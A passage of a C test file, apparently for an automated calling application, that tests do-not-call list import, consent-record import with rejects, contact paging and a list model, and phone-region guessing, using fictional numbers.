  g_main_loop_unref (run.loop);
}

static void
test_dnc (Fixture       *f,
          gconstpointer  data)
{
  const char *text =
    "Telefon;Grund\n"
    "030 901820;asked on the phone\n"
    "+49 30 901820;again\n"
    "0049 1512 3456789;\n"
    "nope;x\n";
  g_autofree char *path = write_file (f, "dnc.csv", text, -1);
  g_auto(TbImportOptions) options = { 0 };
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_auto(TbDncEntry) entry = { 0 };
  g_autoptr(GPtrArray) page = g_ptr_array_new_with_free_func ((GDestroyNotify) tb_dnc_entry_free);
  TbPhoneNumber number;

  options.path = g_strdup (path);
  options.region = g_strdup ("DE");
  options.dnc = TRUE;
  options.map = g_strdup ("phone=1,reason=2");
  g_assert_true (tb_import_run (f->store, &options, NULL, NULL, &result, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.rows, ==, 4);
  g_assert_cmpint (result.imported, ==, 2);
  g_assert_cmpint (result.duplicates, ==, 1);
  g_assert_cmpint (result.rejected, ==, 1);

  /* Numbers are normalized the same way as contacts: any form finds the entry. */
  g_assert_true (tb_phone_normalize ("+49 (0)30 901820", "US", &number, NULL));
  g_assert_true (tb_store_dnc_lookup (f->store, number.e164, g_get_real_time (), &entry));
  g_assert_cmpstr (entry.source, ==, "import");
  g_assert_cmpstr (entry.reason, ==, "asked on the phone");
  g_assert_cmpint (tb_store_dnc_count (f->store, NULL), ==, 2);

  /* Paging. */
  for (guint i = 0; i < 25; i++) {
    g_autofree char *e164 = g_strdup_printf ("+1202555%04u", i);

    g_assert_true (tb_store_dnc_add (f->store, e164, "manual", NULL, NULL, 0, &error));
  }
  g_assert_cmpint (tb_store_dnc_count (f->store, NULL), ==, 27);
  g_assert_true (tb_store_dnc_list (f->store, NULL, 0, 10, page, &error));
  g_assert_cmpuint (page->len, ==, 10);
  g_ptr_array_set_size (page, 0);
  g_assert_true (tb_store_dnc_list (f->store, NULL, 20, 10, page, &error));
  g_assert_cmpuint (page->len, ==, 7);
  g_ptr_array_set_size (page, 0);
  g_assert_cmpint (tb_store_dnc_count (f->store, "5550012"), ==, 1);
  g_assert_true (tb_store_dnc_list (f->store, "202 555 0012", 0, 10, page, &error));
  g_assert_cmpuint (page->len, ==, 1);
  g_assert_cmpstr (((TbDncEntry *) page->pdata[0])->e164, ==, "+12025550012");
}

/* The contact list the UI pages through: counts, search, sort, DNC badge. */
static void
test_store_paging (Fixture       *f,
                   gconstpointer  data)
{
  g_autofree char *big = write_big (f, "page.csv", 1000, 0);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) page = g_ptr_array_new_with_free_func ((GDestroyNotify)
                                                              tb_contact_record_free);

  g_assert_true (import_file (f, big, "Paged", "US", NULL, &result, &error));
  g_assert_cmpint (tb_store_count_contacts (f->store, result.list_id, NULL), ==, 1000);
  g_assert_cmpint (tb_store_count_contacts (f->store, result.list_id, "P99"), ==, 11);
  g_assert_cmpint (tb_store_count_contacts (f->store, 0, "2025550"), ==, 0);
  g_assert_cmpint (tb_store_count_contacts (f->store, result.list_id, "%"), ==, 0);
  g_assert_true (tb_store_dnc_add (f->store, "+12022000999", "manual", NULL, NULL, 0, &error));

  g_assert_true (tb_store_list_contacts (f->store, result.list_id, NULL, TB_CONTACT_SORT_NAME,
                                         TRUE, 0, 3, page, &error));
  g_assert_cmpuint (page->len, ==, 3);
  g_assert_cmpstr (((TbContactRecord *) page->pdata[0])->name, ==, "P999");
  g_assert_true (((TbContactRecord *) page->pdata[0])->dnc);
  g_assert_false (((TbContactRecord *) page->pdata[1])->dnc);
  g_ptr_array_set_size (page, 0);
  g_assert_true (tb_store_list_contacts (f->store, result.list_id, "P99", TB_CONTACT_SORT_ID,
                                         FALSE, 10, 5, page, &error));
  g_assert_cmpuint (page->len, ==, 1);
  g_assert_cmpstr (((TbContactRecord *) page->pdata[0])->name, ==, "P999");
}

static void
on_items_changed (GListModel *model,
                  guint       position,
                  guint       removed,
                  guint       added,
                  guint      *n_signals)
{
  (*n_signals)++;
}

/* The GListModel the Contacts page shows: pages on demand, a bounded cache,
 * search and sort in SQL, also off the main thread. */
static void
test_model (Fixture       *f,
            gconstpointer  data)
{
  g_autofree char *big = write_big (f, "model.csv", 3000, 0);
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  TbContactModel *model = tb_contact_model_new (f->store);
  g_autoptr(TbContact) item = NULL;
  guint n_signals = 0;
  gint64 deadline;

  g_assert_true (import_file (f, big, "Model", "US", NULL, &result, &error));
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 0);
  g_assert_true (g_list_model_get_item_type (G_LIST_MODEL (model)) == TB_TYPE_CONTACT);
  g_signal_connect (model, "items-changed", G_CALLBACK (on_items_changed), &n_signals);

  tb_contact_model_set_list_id (model, result.list_id);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 3000);
  g_assert_cmpuint (n_signals, >=, 1);
  g_assert_cmpuint (tb_contact_model_get_n_fetches (model), ==, 0);   /* nothing read yet */

  /* Items come from the right page, each page is read once while cached. */
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P0");
  g_clear_object (&item);
  item = g_list_model_get_item (G_LIST_MODEL (model), 2999);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P2999");
  g_assert_cmpstr (tb_contact_get_e164 (item), ==, "+12022002999");
  g_clear_object (&item);
  item = g_list_model_get_item (G_LIST_MODEL (model), 257);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P257");
  g_clear_object (&item);
  g_assert_cmpuint (tb_contact_model_get_n_fetches (model), ==, 3);
  item = g_list_model_get_item (G_LIST_MODEL (model), 1);
  g_clear_object (&item);
  g_assert_cmpuint (tb_contact_model_get_n_fetches (model), ==, 3);
  g_assert_null (g_list_model_get_item (G_LIST_MODEL (model), 3000));

  /* Walking the whole list keeps only a few pages. */
  for (guint i = 0; i < 3000; i += 100) {
    item = g_list_model_get_item (G_LIST_MODEL (model), i);
    g_clear_object (&item);
  }
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_clear_object (&item);
  g_assert_cmpuint (tb_contact_model_get_n_fetches (model), >, 12);

  /* Synchronous search and sort. */
  tb_contact_model_set_search (model, "P29");
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 111);
  tb_contact_model_set_sort (model, TB_CONTACT_SORT_NAME, TRUE);
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P2999");
  g_clear_object (&item);

  /* Off the main thread: the model changes when the result lands; a newer
   * query wins over an older one still running. */
  tb_contact_model_set_query_async (model, "P1", TB_CONTACT_SORT_ID, FALSE);
  tb_contact_model_set_query_async (model, "P2", TB_CONTACT_SORT_PHONE, TRUE);
  g_assert_true (tb_contact_model_get_busy (model));
  deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;
  while (tb_contact_model_get_busy (model) && g_get_monotonic_time () < deadline)
    g_main_context_iteration (NULL, TRUE);
  g_assert_false (tb_contact_model_get_busy (model));
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 1111);
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P2999");
  g_clear_object (&item);

  /* The DNC list through the same model, with the badge on contacts. */
  g_assert_true (tb_store_dnc_add (f->store, "+12022002999", "manual", "asked", NULL, 0, &error));
  tb_contact_model_reload (model);
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_assert_true (tb_contact_get_dnc (item));
  g_clear_object (&item);
  tb_contact_model_set_search (model, NULL);
  tb_contact_model_set_dnc (model, TRUE);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 1);
  item = g_list_model_get_item (G_LIST_MODEL (model), 0);
  g_assert_cmpstr (tb_contact_get_e164 (item), ==, "+12022002999");
  g_assert_cmpstr (tb_contact_get_source (item), ==, "manual");
  g_assert_cmpstr (tb_contact_get_name (item), ==, "asked");
  g_clear_object (&item);

  /* The superseded query's task may still hold the model for a moment. */
  unref_and_wait_finalize (model);

  /* Async pages: a miss gives blank placeholders at once, and the rows when
   * the reader thread has them, announced by items-changed on that page. */
  model = tb_contact_model_new (f->store);
  tb_contact_model_set_async_pages (model, TRUE);
  tb_contact_model_set_list_id (model, result.list_id);
  tb_contact_model_set_sort (model, TB_CONTACT_SORT_NAME, FALSE);
  n_signals = 0;
  g_signal_connect (model, "items-changed", G_CALLBACK (on_items_changed), &n_signals);
  item = g_list_model_get_item (G_LIST_MODEL (model), 2999);
  g_assert_nonnull (item);
  g_assert_null (tb_contact_get_e164 (item));
  g_clear_object (&item);
  deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;
  while (n_signals == 0 && g_get_monotonic_time () < deadline)
    g_main_context_iteration (NULL, TRUE);
  g_assert_cmpuint (n_signals, ==, 1);
  item = g_list_model_get_item (G_LIST_MODEL (model), 2999);
  g_assert_cmpstr (tb_contact_get_name (item), ==, "P999");   /* by name: P0 < P1 < P10 … */
  g_clear_object (&item);
  g_assert_cmpuint (tb_contact_model_get_n_fetches (model), ==, 1);
  /* A page asked for just before a reload is dropped when it lands. */
  item = g_list_model_get_item (G_LIST_MODEL (model), 1000);
  g_clear_object (&item);
  tb_contact_model_reload (model);
  n_signals = 0;
  for (guint i = 0; i < 50; i++) {
    g_main_context_iteration (NULL, FALSE);
    g_usleep (2000);
  }
  g_assert_cmpuint (n_signals, ==, 0);
  unref_and_wait_finalize (model);
}

/* A consent file through the import the window runs: the columns `consent import` reads (by
 * the same code), any encoding and separator the reader detects, the good records in (each
 * audited), the bad rows to the rejects file with their reason. */
static void
test_consent_import (Fixture       *f,
                     gconstpointer  data)
{
  const char *text =
    "Number;Scope;Source;Evidence;Collected_At;Collected_By;Expires_At\n"
    "(202) 555-0101;ai_voice;form;\"Formulaire, caf\xe9\";2026-01-05;web;\n"   /* 2 */
    "202.555.0102;marketing;document;doc 7;2026-01-06;;2027-01-06\n"         /* 3 */
    "12ab;ai_voice;form;x;2026-01-06;;\n"                                    /* 4: number */
    "+1 202 555 0103;ai_voice;;x;2026-01-06;;\n"                             /* 5: source */
    "+1 202 555 0104;ai_voice;form;x;yesterday;;\n"                          /* 6: date */
    "+1 202 555 0105;robocall;form;x;2026-01-06;;\n";                        /* 7: scope */
  g_autofree char *path = write_file (f, "consent.csv", text, -1);
  g_autofree char *bad = write_file (f, "bad.csv", "phone,scope\n+12025550101,ai_voice\n", -1);
  g_auto(TbImportOptions) options = { 0 };
  g_auto(TbImportResult) result = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) records = NULL;
  g_autofree char *rejects = NULL;

  options.path = g_strdup (path);
  options.region = g_strdup ("US");
  options.consent = TRUE;
  g_assert_true (tb_import_run (f->store, &options, NULL, NULL, &result, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (result.list_name, ==, "consent");
  g_assert_cmpint (result.list_id, ==, 0);
  g_assert_cmpint (result.rows, ==, 6);
  g_assert_cmpint (result.imported, ==, 2);
  g_assert_cmpint (result.rejected, ==, 4);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_PHONE_INVALID], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_CONSENT_SOURCE], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_CONSENT_DATE], ==, 1);
  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_CONSENT_SCOPE], ==, 1);
  g_assert_cmpstr (tb_import_reason_get_id (TB_IMPORT_REASON_CONSENT_SCOPE), ==,
                   "consent_scope");

  /* Latin-1 and semicolons, read as `consent import` reads them. */
  records = tb_store_consent_list (f->store, "+12025550101", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (records->len, ==, 1);
  g_assert_cmpstr (((TbConsentRecord *) records->pdata[0])->evidence, ==, "Formulaire, café");
  g_assert_cmpstr (((TbConsentRecord *) records->pdata[0])->collected_by, ==, "web");
  g_assert_cmpint (((TbConsentRecord *) records->pdata[0])->expires_at, ==, 0);
  g_clear_pointer (&records, g_ptr_array_unref);
  records = tb_store_consent_list (f->store, "+12025550102", &error);
  g_assert_cmpuint (records->len, ==, 1);
  g_assert_cmpstr (((TbConsentRecord *) records->pdata[0])->scope, ==, "marketing");
  g_assert_cmpint (((TbConsentRecord *) records->pdata[0])->expires_at, >, 0);
  /* One audit row per record, as tb_consent_add () writes it. */
  g_assert_cmpint (tb_store_count_rows (f->store, "consent"), ==, 2);
  g_assert_cmpint (tb_store_count_rows (f->store, "audit"), ==, 2);

  g_assert_nonnull (result.rejects_path);
  g_assert_true (g_file_get_contents (result.rejects_path, &rejects, NULL, NULL));
  g_assert_true (g_str_has_prefix (rejects, "line,reason,Number,Scope,Source,Evidence,"
                                            "Collected_At,Collected_By,Expires_At\r\n"));
  g_assert_nonnull (strstr (rejects, "\r\n4,\"number \"\"12ab\"\": "));
  g_assert_nonnull (strstr (rejects, "\r\n5,source is empty,+1 202 555 0103,ai_voice,,x,"));
  g_assert_nonnull (strstr (rejects, "\r\n6,\"collected_at \"\"yesterday\"\" is not ISO 8601\","));
  g_assert_nonnull (strstr (rejects, "\r\n7,\"scope \"\"robocall\"\" is not marketing,"));

  /* A file whose header does not name the columns: nothing imported, no rejects file. */
  tb_import_options_clear (&options);
  tb_import_result_clear (&result);
  options.path = g_strdup (bad);
  options.consent = TRUE;
  g_assert_false (tb_import_run (f->store, &options, NULL, NULL, &result, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);
  g_assert_true (g_str_has_suffix (error->message, "bad.csv:1: the header needs the columns "
                                   "number, scope, source and collected_at"));
  g_assert_null (result.rejects_path);
  g_assert_cmpint (tb_store_count_rows (f->store, "consent"), ==, 2);
}

static void
wait_idle (TbContactModel *model)
{
  gint64 deadline = g_get_monotonic_time () + 20 * G_USEC_PER_SEC;

  while (tb_contact_model_get_busy (model) && g_get_monotonic_time () < deadline)
    g_main_context_iteration (NULL, TRUE);
  g_assert_false (tb_contact_model_get_busy (model));
}

/* "Needs consent": the contacts the dial gate blocks for R5, no more (a DNC entry blocks
 * first, for R1), in the model's order, paged by id. */
static void
test_model_needs_consent (Fixture       *f,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  TbContactModel *model = tb_contact_model_new (f->store);
  gint64 list_id = tb_store_ensure_list (f->store, "US", NULL, &error);
  gint64 now = g_get_real_time ();
  TbConsentRecord consent = { .e164 = (char *) "+12025550102", .scope = (char *) "ai_voice",
                              .source = (char *) "form", .collected_at = now - G_USEC_PER_SEC };

  for (guint i = 0; i < 300; i++) {
    g_autofree char *e164 = g_strdup_printf ("+1202555%04u", 100 + i);
    g_autofree char *name = g_strdup_printf ("n%03u", 299 - i);
    TbContactRow row = { .e164 = e164, .name = name, .country = "US" };

    g_assert_cmpint (tb_store_add_contact (f->store, list_id, &row, &error), >, 0);
  }
  g_assert_cmpint (tb_consent_add (f->store, &consent, now, &error), >, 0);
  g_assert_true (tb_store_dnc_add (f->store, "+12025550103", "manual", NULL, NULL, 0, &error));
  g_assert_no_error (error);

  tb_contact_model_set_list_id (model, list_id);
  tb_contact_model_set_sort (model, TB_CONTACT_SORT_NAME, FALSE);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 300);
  tb_contact_model_set_filter (model, TB_CONTACT_FILTER_NEEDS_CONSENT, now);
  g_assert_cmpint (tb_contact_model_get_filter (model), ==, TB_CONTACT_FILTER_NEEDS_CONSENT);
  wait_idle (model);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 298);
  {
    g_autoptr(TbContact) first = g_list_model_get_item (G_LIST_MODEL (model), 0);
    g_autoptr(TbContact) last = g_list_model_get_item (G_LIST_MODEL (model), 297);

    /* Sorted by name: n000 is +12025550399; the second page is read by id. */
    g_assert_cmpstr (tb_contact_get_e164 (first), ==, "+12025550399");
    g_assert_cmpstr (tb_contact_get_e164 (last), ==, "+12025550100");
  }

  /* A reload asks the gate again: revoked consent is needed again. */
  g_assert_cmpint (tb_consent_revoke (f->store, "+12025550102", NULL, now, &error), ==, 1);
  tb_contact_model_set_filter (model, TB_CONTACT_FILTER_NEEDS_CONSENT, now + G_USEC_PER_SEC);
  wait_idle (model);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 299);

  tb_contact_model_set_filter (model, TB_CONTACT_FILTER_NONE, 0);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 300);
  /* A finished query's task may still hold the model for a moment. */
  unref_and_wait_finalize (model);
}

static GPtrArray *
rows_of (const char * const *lines)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);

  for (guint i = 0; lines[i] != NULL; i++)
    g_ptr_array_add (rows, g_strsplit (lines[i], ",", -1));
  return rows;
}

/* Where a file's national numbers are: from numbers written with their country code (most of
 * them), from Chinese column names or a Chinese encoding; else nothing is guessed. */
static void
test_region_guess (void)
{
  static const char * const uk[] = { "name,phone", "Ann,+44 20 7123 4567", "Bob,+44 7911 123456",
                                     "Cy,020 7123 4999", "Di,+1 202 555 0100", NULL };
  static const char * const zh[] = { "姓名,手机号", "王丽,138 1234 5601", NULL };
  static const char * const plain[] = { "name,phone", "Ann,(202) 555-0100", "Bob,555 0101", NULL };
  static const char * const one_foreign[] = { "name,phone", "Ann,+44 20 7123 4567",
                                              "Bob,(202) 555-0100", NULL };
  TbRegionGuessReason why;
  g_autoptr(GPtrArray) a = rows_of (uk);
  g_autoptr(GPtrArray) b = rows_of (zh);
  g_autoptr(GPtrArray) c = rows_of (plain);
  g_autoptr(GPtrArray) d = rows_of (one_foreign);
  g_autofree char *r1 = tb_region_guess (a, TRUE, 1, "utf-8", &why);
  g_autofree char *r2 = NULL;
  g_autofree char *r3 = NULL;
  g_autofree char *r4 = NULL;
  g_autofree char *r5 = NULL;

  g_assert_cmpstr (r1, ==, "GB");
  g_assert_cmpint (why, ==, TB_REGION_GUESS_NUMBERS);
  r2 = tb_region_guess (b, TRUE, 1, "utf-8", &why);
  g_assert_cmpstr (r2, ==, "CN");
  g_assert_cmpint (why, ==, TB_REGION_GUESS_CHINESE);
  r3 = tb_region_guess (c, TRUE, 1, "gb18030", &why);
  g_assert_cmpstr (r3, ==, "CN");
  r4 = tb_region_guess (c, TRUE, 1, "utf-8", &why);
  g_assert_null (r4);
  g_assert_cmpint (why, ==, TB_REGION_GUESS_NONE);
  /* One foreign number alone decides nothing. */
  r5 = tb_region_guess (d, TRUE, 1, "utf-8", &why);
  g_assert_null (r5);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
  g_test_add_func ("/telebot/contacts/region-guess", test_region_guess);

#define ADD(path, func) \
  g_test_add ("/telebot/contacts/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("csv/delimiters", test_csv_delimiters);
  ADD ("csv/quotes", test_csv_quotes);
  ADD ("csv/unterminated-quote", test_csv_unterminated);
  ADD ("csv/chunk-boundaries", test_csv_chunks);
  ADD ("csv/huge-record", test_csv_huge_record);
  ADD ("csv/encodings", test_csv_encodings);
  ADD ("csv/runaway-quote", test_csv_runaway_quote);
  ADD ("csv/mixed-encodings", test_csv_mixed_encodings);
  ADD ("csv/late-latin1-row", test_csv_late_latin1);
  ADD ("csv/latin1-and-double-bom", test_csv_latin1_and_double_bom);
  g_test_add_func ("/telebot/contacts/phone/e164", test_phone_e164);
  g_test_add_func ("/telebot/contacts/phone/area-key", test_phone_area_key);
  g_test_add_func ("/telebot/contacts/mapping/headers", test_mapping);
  ADD ("import/gbk-chinese-headers", test_import_gbk_chinese);
  ADD ("import/broken-rows", test_import_broken_rows);
  ADD ("import/custom-fields-and-map", test_import_custom_fields_and_override);
  ADD ("import/rejects-keep-lines-whole", test_import_rejects_whole);
  ADD ("import/huge-lines-rejected-whole", test_import_huge_lines);
  ADD ("export/formulas-as-text", test_export_formulas);
  ADD ("export/file", test_export_file);
  ADD ("import/round-trip", test_round_trip);
  ADD ("import/cancel", test_cancel);
  ADD ("import/job", test_job);
  ADD ("dnc/import-and-list", test_dnc);
  ADD ("consent/import", test_consent_import);
  ADD ("model/needs-consent", test_model_needs_consent);
  g_test_add_func ("/telebot/contacts/variables/unsafe-not-spoken", test_variables_unsafe);
  ADD ("store/paging", test_store_paging);
  ADD ("model/paged-list-model", test_model);

  return g_test_run ();
}
